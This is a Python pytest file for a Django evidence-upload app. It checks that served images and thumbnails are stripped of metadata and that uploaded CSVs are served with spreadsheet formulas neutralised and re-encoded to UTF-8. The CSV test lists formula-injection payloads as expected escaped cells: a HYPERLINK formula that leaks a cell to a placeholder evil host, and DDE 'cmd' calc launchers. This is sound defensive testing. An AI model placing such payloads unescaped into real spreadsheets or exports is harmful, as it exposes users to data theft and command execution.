"""No metadata block survives in what is served (image and thumbnail), checked on the bytes sent over
HTTP; a records CSV is served only neutralised, never as uploaded."""

import csv
import io
import struct

import pytest
from django.urls import reverse
from PIL import Image

from evidence.models import Evidence
from evidence.processing import evidence_process
from tests import files
from tests.tickets.factories import SupervisorFactory, submission
from tickets.models import RechargeRecord

pytestmark = pytest.mark.django_db


def jpeg_markers(data: bytes) -> list[int]:
    """The markers of a JPEG's header segments, up to its first scan."""
    markers, position = [], 2
    while position + 4 <= len(data) and data[position] == 0xFF:
        marker = data[position + 1]
        markers.append(marker)
        if marker == 0xDA:
            break
        position += 2 + struct.unpack(">H", data[position + 2 : position + 4])[0]
    return markers


def png_chunks(data: bytes) -> list[bytes]:
    chunks, position = [], 8
    while position + 8 <= len(data):
        length, kind = struct.unpack(">I4s", data[position : position + 8])
        chunks.append(kind)
        position += 12 + length
    return chunks


def webp_chunks(data: bytes) -> list[bytes]:
    chunks, position = [], 12
    while position + 8 <= len(data):
        kind, length = data[position : position + 4], struct.unpack("<I", data[position + 4 : position + 8])[0]
        chunks.append(kind)
        position += 8 + length + (length & 1)
    return chunks


def assert_no_metadata(served: bytes) -> None:
    assert b"SECRET" not in served
    assert b"Exif\x00" not in served and b"http://ns.adobe.com/xap" not in served and b"xmpmeta" not in served
    assert b"ICC_PROFILE" not in served and b"Photoshop 3.0" not in served and b"8BIM" not in served
    image = Image.open(io.BytesIO(served))
    assert not image.getexif()
    assert not {"exif", "xmp", "icc_profile", "comment", "photoshop"} & set(image.info)
    if image.format == "JPEG":
        # SOI is not listed; allowed: JFIF (APP0), tables, frame, scan. No APP1-15, no COM.
        assert set(jpeg_markers(served)) <= {0xE0, 0xDB, 0xC4, 0xC0, 0xC2, 0xDD, 0xDA}, jpeg_markers(served)
    elif image.format == "PNG":
        assert set(png_chunks(served)) <= {b"IHDR", b"PLTE", b"tRNS", b"IDAT", b"IEND"}, png_chunks(served)
    else:
        assert set(webp_chunks(served)) <= {b"VP8 ", b"VP8L", b"VP8X", b"ALPH"}, webp_chunks(served)


@pytest.mark.parametrize(
    ("name", "builder", "blocks"),
    [
        ("front.jpg", files.jpeg_with_all_metadata_bytes, ("exif", "xmp", "photoshop", "icc_profile", "comment")),
        ("front.png", files.png_with_all_metadata_bytes, ("exif", "xmp", "icc_profile", "Comment", "Author")),
        ("front.webp", files.webp_with_all_metadata_bytes, ("exif", "xmp", "icc_profile")),
    ],
    ids=["jpeg", "png", "webp"],
)
def test_served_image_and_thumbnail_carry_no_metadata_block(client, appeal_types, name, builder, blocks):
    original = builder()
    assert set(blocks) <= set(Image.open(io.BytesIO(original)).info)  # the upload does carry each block
    appeal_type = appeal_types["realname_unbind"]
    response = client.post(
        reverse("tickets:new", args=[appeal_type.code]), submission(appeal_type, evidence_id_front=files.upload(name, original))
    )
    assert response.status_code == 302
    evidence = Evidence.objects.get(kind="id_front")
    evidence_process(evidence_id=evidence.pk)
    evidence.refresh_from_db()
    assert evidence.status == "ready"

    client.force_login(SupervisorFactory())
    for url in (reverse("evidence:serve", args=[evidence.pk]), reverse("evidence:thumbnail", args=[evidence.pk])):
        response = client.get(url)
        assert response.status_code == 200
        assert_no_metadata(b"".join(response.streaming_content))


def test_a_records_csv_is_served_with_its_formulas_made_inert(client, appeal_types):
    uploaded = files.records_csv_with_formulas_bytes()
    appeal_type = appeal_types["account_recovery"]
    response = client.post(
        reverse("tickets:new", args=[appeal_type.code]),
        submission(appeal_type, recharge_csv=files.upload("records.csv", uploaded, "text/csv")),
    )
    assert response.status_code == 302
    assert RechargeRecord.objects.filter(order_number__startswith="TX-F-").count() == 4
    evidence = Evidence.objects.get(content_type="text/csv")
    client.force_login(SupervisorFactory())
    assert client.get(reverse("evidence:serve", args=[evidence.pk])).status_code == 404  # not before processing

    evidence_process(evidence_id=evidence.pk)
    response = client.get(reverse("evidence:serve", args=[evidence.pk]))
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv"
    assert response["Content-Disposition"].startswith("attachment;")
    served = b"".join(response.streaming_content)
    assert served != uploaded
    rows = list(csv.reader(io.StringIO(served.decode("utf-8-sig"))))
    assert rows[0] == ["order_number", "amount", "currency", "paid_at", "product"]
    products = [row[4] for row in rows[1:]]
    assert products == [
        '\'=HYPERLINK("http://evil.example/?d="&A1,"Refund")',
        "'+cmd|' /C calc'!A0",
        "'@SUM(1+1)*cmd|' /C calc'!A0",
        "'-2+3+cmd|' /C calc'!A0",
    ]
    assert not any(cell[:1] in ("=", "+", "-", "@", "\t", "\r") for row in rows for cell in row)
    assert [row[1] for row in rows[1:]] == ["30.00", "6", "12", "8"]  # plain numbers stay numbers


def test_a_gb18030_records_csv_is_served_as_utf8(client, appeal_types):
    appeal_type = appeal_types["account_recovery"]
    text = "订单号,金额,币种,支付时间,商品\nTX-GB-1,30.00,CNY,2026-10-01 12:30,=月卡\n"
    client.post(
        reverse("tickets:new", args=[appeal_type.code]),
        submission(appeal_type, recharge_csv=files.upload("r.csv", text.encode("gb18030"), "text/csv")),
    )
    evidence = Evidence.objects.get(content_type="text/csv")
    evidence_process(evidence_id=evidence.pk)
    client.force_login(SupervisorFactory())
    served = b"".join(client.get(reverse("evidence:serve", args=[evidence.pk])).streaming_content)
    assert list(csv.reader(io.StringIO(served.decode("utf-8-sig")))) == [
        ["订单号", "金额", "币种", "支付时间", "商品"],
        ["TX-GB-1", "30.00", "CNY", "2026-10-01 12:30", "'=月卡"],
    ]
